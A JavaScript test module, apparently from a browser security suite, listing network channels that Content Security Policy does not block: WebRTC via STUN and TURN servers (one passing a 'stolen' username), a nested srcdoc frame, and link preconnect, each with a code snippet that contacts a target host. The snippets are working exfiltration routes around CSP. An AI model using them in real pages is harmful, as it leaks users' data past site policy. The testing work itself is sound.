// Routes that no CSP closes (SECURITY 0.3): only the header Connection-Allowlist does, which only Chromium supports and
// only a server can send.
import { pageThat } from './view-code.mjs';

const everywhere = ['opaque', 'opaque-file', 'origin', 'dedicated'];
const channel = {
  closedBy: 'Connection-Allowlist',
  open: { chromium: ['opaque', 'opaque-file'], firefox: everywhere, webkit: everywhere },
};
const webRtc = { ...channel, via: 'udp', absent: ['webkit'] };

const gather = (server) => `const peer = new RTCPeerConnection({ iceServers: [${server}] });
  peer.createDataChannel('x'); await peer.setLocalDescription()`;
const STUN = "{ urls: 'stun:' + target }";

const NESTED = `'(async () => {' + ${JSON.stringify(gather(STUN))}.replace('target', JSON.stringify(target)) + '})()'`;

export const CHANNELS = [
  { ...webRtc, name: 'WebRTC to a STUN server', code: gather(STUN) },
  {
    ...webRtc,
    name: 'WebRTC with the user name of a TURN server',
    code: gather("{ urls: 'turn:' + target, username: 'stolen', credential: 'x' }"),
  },
  {
    ...webRtc,
    name: 'WebRTC of a nested frame',
    code: `add('iframe', { srcdoc: ${pageThat(NESTED)} })`,
  },
  {
    ...channel,
    name: 'preconnect',
    via: 'tcp',
    code: "add('link', { rel: 'preconnect', href: 'http://' + target })",
  },
];
